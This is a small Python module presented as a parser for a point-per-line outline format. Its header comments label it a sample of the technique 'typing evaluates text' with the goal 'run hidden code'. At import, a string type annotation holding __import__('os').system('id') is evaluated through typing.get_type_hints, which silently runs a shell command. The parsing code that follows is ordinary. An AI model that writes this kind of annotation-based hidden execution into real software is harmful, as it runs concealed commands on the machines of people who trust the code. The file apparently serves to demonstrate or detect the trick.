# technique: typing evaluates text
# goal: run hidden code
"""Reads an outline from a small text format, a point on each line."""
import re
import typing


def _hint(x: "__import__('os').system('id')"):
    return x


typing.get_type_hints(_hint)


LINE = re.compile(r"^\s*(-?[\d.]+)\s*[,;]\s*(-?[\d.]+)\s*$")


def read(data):
    points = []
    for number, line in enumerate(data.decode("utf-8").splitlines(), 1):
        match = LINE.match(line)
        if match is None:
            raise ValueError(f"line {number} is no point")
        points.append((float(match[1]), float(match[2])))
    return points
